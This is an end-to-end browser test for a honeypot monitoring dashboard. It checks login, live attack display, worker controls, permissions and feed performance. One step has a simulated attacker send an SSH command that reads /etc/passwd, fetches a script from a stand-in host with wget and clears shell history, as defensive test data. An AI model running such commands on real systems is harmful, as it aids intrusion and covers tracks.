// The dashboard in headless Chromium against a real fleet (`decnet up`): first login with the
// forced password change, an SSH attack made during the test showing up live in the feed and on
// the attacker's page, stopping / starting / restarting a worker from the workers page, the phone
// layout, and the live feed at 100 events/s. Screenshots go to test-results/ for a reviewer.
import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { existsSync, mkdirSync, mkdtempSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT, waitFor } from '../helpers/env.ts';
import { ADMIN_PASSWORD, startFleet, type Fleet } from '../helpers/fleet.ts';
import { sshAttack } from '../helpers/ssh-attack.ts';
import type { BrowserContext, Page } from 'playwright-core';

const CHROMIUM = '/usr/bin/chromium';
const RESULTS = join(ROOT, 'test-results');
const NEW_PASSWORD = 'a-much-better-Passw0rd-2';
const CHROMIUM_ARGS = ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];

/** Runs in the page: records the longest gap between animation frames and the long tasks. */
const PERF_MONITOR = `(() => {
  const perf = (window.decnetPerf = { maxGap: 0, frames: 0, longTasks: 0, longTaskMs: 0, run: true });
  let last = performance.now();
  const tick = (now) => {
    perf.maxGap = Math.max(perf.maxGap, now - last);
    perf.frames++;
    last = now;
    if (perf.run) requestAnimationFrame(tick);
  };
  requestAnimationFrame(tick);
  new PerformanceObserver((list) => {
    for (const e of list.getEntries()) {
      perf.longTasks++;
      perf.longTaskMs += e.duration;
    }
  }).observe({ type: 'longtask' });
})()`;

function skipReason(): string | undefined {
  if (!existsSync(CHROMIUM)) return `${CHROMIUM} is missing (install the Debian package chromium)`;
  if (!existsSync(join(ROOT, 'web/dist/index.html'))) return 'the dashboard is not built (npm run build writes web/dist)';
  if (!existsSync(join(ROOT, 'dist/decnet.js'))) return 'the CLI is not built (npm run build writes dist/)';
  return undefined;
}

async function shot(page: Page, name: string, fullPage = true): Promise<void> {
  mkdirSync(RESULTS, { recursive: true });
  await page.screenshot({ path: join(RESULTS, name), fullPage });
}

/** The page is no wider than the viewport (nothing forces sideways scrolling of the whole page). */
async function assertNoPageOverflow(page: Page, what: string): Promise<void> {
  const { scroll, client } = await page.evaluate(() => {
    const root = (globalThis as unknown as { document: { documentElement: { scrollWidth: number; clientWidth: number } } }).document.documentElement;
    return { scroll: root.scrollWidth, client: root.clientWidth };
  });
  assert.ok(scroll <= client + 1, `${what}: the page is ${scroll} px wide in a ${client} px viewport`);
}

test('dashboard in Chromium: login, password change, live attack, attacker page, workers, phone, 100 events/s', { timeout: 240_000 }, async (t) => {
  const reason = skipReason();
  if (reason) {
    t.skip(reason);
    return;
  }
  const { chromium } = await import('playwright-core');
  const fleet: Fleet = await startFleet();
  let context: BrowserContext | undefined;
  const problems: string[] = [];
  try {
    context = await chromium.launchPersistentContext(mkdtempSync(join(fleet.dirs.root, 'chromium-')), {
      executablePath: CHROMIUM,
      headless: true,
      args: CHROMIUM_ARGS,
      viewport: { width: 1366, height: 850 },
    });
    context.setDefaultTimeout(30_000);
    const page = context.pages()[0] ?? (await context.newPage());
    page.on('pageerror', (err) => problems.push(`page error: ${err.message}`));
    // Chromium logs every failed request; the ones a step provokes on purpose are expected.
    let expectedStatus: number | undefined;
    page.on('console', (msg) => {
      if (msg.type() !== 'error') return;
      if (expectedStatus && msg.text().includes(`status of ${expectedStatus}`)) return;
      problems.push(`console error: ${msg.text()}`);
    });
    // Each step depends on the previous ones: after a failure the rest are skipped, and the failure
    // carries what the page and the fleet logged.
    let failed = '';
    const step = (name: string, fn: (st: TestContext) => Promise<void>) =>
      t.test(name, async (st) => {
        if (failed) {
          st.skip(`an earlier step failed: ${failed}`);
          return;
        }
        try {
          await fn(st);
        } catch (err) {
          failed = name;
          throw new Error(`${err instanceof Error ? err.message : String(err)}\n${problems.join('\n')}\n${fleet.logs()}`, { cause: err });
        }
      });

    await step('first login forces a password change, then the dashboard opens with a live stream', async () => {
      await page.goto(fleet.url);
      expectedStatus = 401;
      await page.getByLabel('User name').fill('admin');
      await page.getByLabel('Password', { exact: true }).fill('not-the-password');
      await page.getByRole('button', { name: 'Log in' }).click();
      await page.getByRole('alert').filter({ hasText: /incorrect username or password/i }).waitFor();
      expectedStatus = undefined;
      await page.getByLabel('Password', { exact: true }).fill(ADMIN_PASSWORD);
      await page.getByRole('button', { name: 'Log in' }).click();
      await page.getByRole('heading', { name: 'Choose a new password' }).waitFor();
      // The API agrees: this session may do nothing else yet.
      const token = (await page.evaluate(`JSON.parse(sessionStorage.getItem('decnet.session') ?? '{}').token`)) as string;
      const refused = await fetch(`${fleet.url}/api/v1/stats`, { headers: { authorization: `Bearer ${token}` } });
      assert.equal(refused.status, 403);

      await page.getByLabel('Current password').fill(ADMIN_PASSWORD);
      await page.getByLabel('New password', { exact: true }).fill('short');
      await page.getByLabel('New password again').fill('short');
      await page.getByRole('button', { name: 'Change password' }).click();
      await page.getByRole('alert').filter({ hasText: 'at least 12 characters' }).waitFor();
      await page.getByLabel('New password', { exact: true }).fill(NEW_PASSWORD);
      await page.getByLabel('New password again').fill(NEW_PASSWORD);
      await page.getByRole('button', { name: 'Change password' }).click();
      await page.getByRole('heading', { name: 'Overview' }).waitFor();
      await page.getByTestId('stream-state').filter({ hasText: 'live' }).waitFor();
      // The old password no longer works; the new one does.
      const old = await fetch(`${fleet.url}/api/v1/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'admin', password: ADMIN_PASSWORD }) });
      assert.equal(old.status, 401);
    });

    const feedRow = (text: string) => page.locator('table[aria-label="live feed"] tbody tr', { hasText: text });

    await step('an SSH attack made now appears live in the feed, and in the top lists', async () => {
      await sshAttack({ host: fleet.decky.ip, from: fleet.attackerIp }, ['letmein', 'toor', 'admin'], 'uname -a; cat /etc/passwd; wget http://198.51.100.7/x.sh; history -c');
      await feedRow(fleet.attackerIp).filter({ hasText: 'auth_attempt' }).first().waitFor();
      await feedRow(fleet.attackerIp).filter({ hasText: 'uname -a' }).first().waitFor();
      // Profiles and tags are built by the intel workers a moment later; the cards refresh by themselves.
      const topAttackers = page.locator('section.card', { has: page.getByRole('heading', { name: 'Top attackers' }) });
      await topAttackers.getByRole('link', { name: fleet.attackerIp }).waitFor({ timeout: 60_000 });
      const topTechniques = page.locator('section.card', { has: page.getByRole('heading', { name: 'Top techniques' }) });
      await topTechniques.getByRole('link', { name: 'T1082' }).waitFor({ timeout: 60_000 });
      const topCredentials = page.locator('section.card', { has: page.getByRole('heading', { name: 'Top credentials' }) });
      await topCredentials.getByText('letmein').waitFor({ timeout: 60_000 });
      await shot(page, 'overview.png');
    });

    await step("the attacker's page shows the attack and follows it live", async () => {
      await feedRow(fleet.attackerIp).first().getByRole('link', { name: fleet.attackerIp }).click();
      await page.waitForURL(/\/attackers\/[0-9a-f-]{36}$/);
      await page.getByRole('heading', { name: fleet.attackerIp, level: 1 }).waitFor();
      const timeline = page.locator('table[aria-label="attacker timeline"]');
      await timeline.locator('tr', { hasText: 'auth_attempt' }).first().waitFor();
      await page.locator('ol[aria-label="commands"]').getByText('uname -a', { exact: false }).first().waitFor();
      await page.locator('table[aria-label="attacker credentials"]').getByText('toor').waitFor();
      await page.locator('table[aria-label="techniques"]').getByRole('link', { name: 'T1082' }).waitFor();
      const at = page.url();
      // A new session while the page is open appears in the timeline without a reload.
      await sshAttack({ host: fleet.decky.ip, from: fleet.attackerIp }, ['admin'], 'id');
      await timeline.locator('tr', { hasText: '$ id' }).first().waitFor();
      assert.equal(page.url(), at);
      await shot(page, 'attacker.png');
    });

    await step('an admin stops, starts and restarts a worker from the workers page', async () => {
      await page.getByRole('navigation', { name: 'pages' }).getByRole('link', { name: 'Workers' }).click();
      const row = page.locator('tr[data-worker="enrich"]');
      await page.locator('tr[data-worker="enrich"][data-state="running"]').waitFor();
      const sibling = page.locator('tr[data-worker="webhook"][data-state="running"]');
      await sibling.waitFor();
      await row.getByRole('button', { name: 'stop enrich' }).click();
      await page.locator('tr[data-worker="enrich"][data-state="stopped"]').waitFor({ timeout: 20_000 });
      // Only that worker stopped: its sibling in the same process still runs.
      await sibling.waitFor();
      await row.getByRole('button', { name: 'start enrich' }).click();
      await page.locator('tr[data-worker="enrich"][data-state="running"]').waitFor({ timeout: 20_000 });
      const restartsBefore = Number(await row.getAttribute('data-restarts'));
      await row.getByRole('button', { name: 'restart enrich' }).click();
      await waitFor(async () => Number(await row.getAttribute('data-restarts')) > restartsBefore && (await row.getAttribute('data-state')) === 'running', 20_000, 'enrich to be restarted');
      await page.locator('table[aria-label="processes"]').getByText('enrich, webhook').waitFor();
      await shot(page, 'workers.png');
    });

    await step('a viewer sees the workers without controls, and no webhooks', async () => {
      const token = (await page.evaluate(`JSON.parse(sessionStorage.getItem('decnet.session') ?? '{}').token`)) as string;
      const created = await fetch(`${fleet.url}/api/v1/config/users`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ username: 'analyst', password: 'analyst-first-Passw0rd', role: 'viewer' }),
      });
      assert.equal(created.status, 201, await created.text());
      const viewer = await context!.newPage();
      try {
        await viewer.goto(`${fleet.url}/workers`);
        await viewer.getByLabel('User name').fill('analyst');
        await viewer.getByLabel('Password', { exact: true }).fill('analyst-first-Passw0rd');
        await viewer.getByRole('button', { name: 'Log in' }).click();
        await viewer.getByLabel('Current password').fill('analyst-first-Passw0rd');
        await viewer.getByLabel('New password', { exact: true }).fill('analyst-second-Passw0rd');
        await viewer.getByLabel('New password again').fill('analyst-second-Passw0rd');
        await viewer.getByRole('button', { name: 'Change password' }).click();
        await viewer.getByRole('heading', { name: 'Overview' }).waitFor();
        await viewer.getByRole('navigation', { name: 'pages' }).getByRole('link', { name: 'Workers' }).click();
        await viewer.locator('tr[data-worker="enrich"][data-state="running"]').waitFor();
        await viewer.getByText('needs the admin role').waitFor();
        assert.equal(await viewer.locator('table[aria-label="workers"] button').count(), 0, 'a viewer gets no stop/restart buttons');
        assert.equal(await viewer.getByRole('navigation', { name: 'pages' }).getByRole('link', { name: 'Webhooks' }).count(), 0);
      } finally {
        await viewer.close();
      }
    });

    await step('the logs page takes the search syntax and explains a bad query', async () => {
      await page.getByRole('navigation', { name: 'pages' }).getByRole('link', { name: 'Logs' }).click();
      const box = page.getByRole('searchbox', { name: 'log search' });
      await box.fill(`attacker:${fleet.attackerIp} event:command`);
      await box.press('Enter');
      const table = page.locator('table[aria-label="log events"]');
      await table.locator('tr', { hasText: '$ id' }).waitFor();
      const rows = await table.locator('tbody tr').allInnerTexts();
      assert.ok(rows.length >= 2 && rows.every((r) => r.includes('command')), `only command events match: ${rows.join(' | ')}`);
      expectedStatus = 422;
      await box.fill('"unclosed');
      await box.press('Enter');
      await page.getByRole('alert').filter({ hasText: /unbalanced double quote/ }).waitFor();
      expectedStatus = undefined;
      assert.equal(await table.count(), 0, 'rows of the previous query are not shown under a rejected one');
    });

    await step('the ATT&CK matrix highlights the observed techniques', async () => {
      await page.getByRole('navigation', { name: 'pages' }).getByRole('link', { name: 'ATT&CK' }).click();
      const discovery = page.getByRole('region', { name: 'Discovery' });
      await discovery.locator('a.technique.seen', { hasText: 'T1082' }).waitFor();
      assert.match(await discovery.locator('a.technique.seen', { hasText: 'T1082' }).innerText(), /System Information Discovery/);
      await shot(page, 'attack.png');
    });

    await step('an admin adds a webhook (secret shown once), disables and deletes it', async () => {
      await page.getByRole('navigation', { name: 'pages' }).getByRole('link', { name: 'Webhooks' }).click();
      const form = page.getByRole('form', { name: 'new webhook' });
      await form.getByLabel('Name').fill('soc');
      await form.getByLabel('URL').fill('https://hooks.example.org/decnet');
      await form.getByRole('button', { name: 'Add webhook' }).click();
      const secret = page.getByRole('status').filter({ hasText: 'shown only now' });
      await secret.waitFor();
      assert.ok((await secret.locator('code.big').innerText()).length >= 16);
      const row = page.locator('table[aria-label="webhooks"] tr', { hasText: 'soc' });
      await row.getByText('attacker.>').waitFor();
      await row.getByRole('button', { name: 'Disable' }).click();
      await row.getByText('disabled').waitFor();
      page.once('dialog', (d) => void d.accept());
      await row.getByRole('button', { name: 'Delete' }).click();
      await page.getByText('No webhooks yet.').waitFor();
    });

    await step('the overview and the attacker page fit a 375 px phone', async () => {
      await page.setViewportSize({ width: 375, height: 812 });
      await page.getByRole('button', { name: 'menu' }).click();
      await page.getByRole('navigation', { name: 'pages' }).getByRole('link', { name: 'Overview' }).click();
      await page.getByRole('heading', { name: 'Overview' }).waitFor();
      await feedRow(fleet.attackerIp).first().waitFor();
      await assertNoPageOverflow(page, 'overview');
      await shot(page, 'overview-phone.png');
      await page.goto(`${fleet.url}/attackers/lookup?ip=${fleet.attackerIp}`);
      await page.getByRole('heading', { name: fleet.attackerIp, level: 1 }).waitFor();
      await page.locator('table[aria-label="attacker timeline"] tr', { hasText: 'auth_attempt' }).first().waitFor();
      await assertNoPageOverflow(page, 'attacker page');
      await shot(page, 'attacker-phone.png');
      await page.setViewportSize({ width: 1366, height: 850 });
    });

    await step('the live feed keeps up with 100 events/s without freezing', async (st) => {
      await page.goto(fleet.url);
      await page.getByRole('heading', { name: 'Overview' }).waitFor();
      await page.getByTestId('stream-state').filter({ hasText: 'live' }).waitFor();
      // Watch the main thread: the longest gap between animation frames and the long tasks.
      await page.evaluate(PERF_MONITOR);
      const RATE = 100;
      const SECONDS = 6;
      const total = RATE * SECONDS;
      const sender = createSocket('udp4');
      const source = fleet.attackerIp.replace(/\.\d+$/, '.251');
      const started = Date.now();
      for (let i = 0; i < total; i++) {
        const due = started + (i * 1000) / RATE;
        const wait = due - Date.now();
        if (wait > 0) await new Promise((r) => setTimeout(r, wait));
        const line = `<134>1 ${new Date().toISOString()} load-decky scanner - probe [meta@32473 src_ip="${source}" seq="${i}"] probe ${i}`;
        await new Promise<void>((resolve, reject) => sender.send(line, fleet.collectorPort, '127.0.0.1', (err) => (err ? reject(err) : resolve())));
      }
      const sentMs = Date.now() - started;
      sender.close();
      const lastShown = Date.now();
      await feedRow(`probe ${total - 1}`).first().waitFor({ timeout: 20_000 });
      const lagMs = Date.now() - lastShown;
      const perf = (await page.evaluate('(window.decnetPerf.run = false, window.decnetPerf)')) as { maxGap: number; frames: number; longTasks: number; longTaskMs: number };
      const rows = await page.locator('table[aria-label="live feed"] tbody tr').count();
      st.diagnostic(`sent ${total} events in ${sentMs} ms; last one on screen ${lagMs} ms after it was sent`);
      st.diagnostic(`frames ${perf.frames}, longest frame gap ${perf.maxGap.toFixed(0)} ms, long tasks ${perf.longTasks} (${perf.longTaskMs.toFixed(0)} ms in total), feed rows ${rows}`);
      assert.ok(rows <= 200, `the feed holds ${rows} rows; it must stay bounded at 200`);
      assert.ok(perf.maxGap < 1000, `the page froze for ${perf.maxGap.toFixed(0)} ms`);
      assert.ok(perf.frames > (sentMs / 1000) * 10, `only ${perf.frames} frames were drawn in ${sentMs} ms`);
      // The chart counted the burst.
      const caption = await page.locator('figure.chart figcaption').innerText();
      const lastHour = Number(/([\d,]+) in the last hour/.exec(caption)?.[1].replace(/,/g, ''));
      assert.ok(lastHour >= total, `the chart counts ${lastHour} events in the last hour; at least ${total} were sent`);
    });

    if (!failed) assert.deepEqual(problems, [], 'the page logged no errors');
  } finally {
    await context?.close().catch(() => undefined);
    await fleet.stop();
  }
});
